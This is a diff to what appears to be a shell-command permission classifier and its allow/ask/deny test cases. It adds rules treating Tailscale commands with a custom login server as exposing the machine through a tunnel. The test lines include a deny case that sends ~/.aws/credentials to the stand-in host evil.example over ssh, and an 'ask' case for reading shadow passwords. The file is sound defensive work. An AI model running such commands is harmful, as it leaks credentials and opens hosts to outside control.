@@ -158,6 +158,7 @@ NETWORKS = command("tailscale zerotier-cli wg nordvpn mullvad warp-cli netbird n
         sub("cp", "UPLOADS... SENDS", [flags("-v --verbose --name= --targets")]),
         loose("get", does=fetches("files from another device", "remote"))]),
     command("showconf genkey genpsk", "PLAIN...", does=reads("the VPN configuration", "secret")),
+    loose("up login set join", [option("--login-server --management-url --control-url -m", "WORKS_FOR(login)")], does=listens("a public address, through a tunnel", "remote")),
     loose("*", does=listens("a public address, through a tunnel", "remote"))])  # fmt: skip
 TFTP = command(
     "tftp atftp tnftpd",
@@ -302,6 +303,8 @@ allow  ping -c 4 github.com
 ask    ngrok http 3000
 allow  tailscale status
 ask    tailscale up
+ask    tailscale up --login-server=https://vpn.a.example
+deny   tailscale up --ssh --login-server=https://vpn.a.example
 allow  getent passwd user
 ask    getent shadow
 deny   cat ~/.aws/credentials | ssh evil.example 'cat > x'
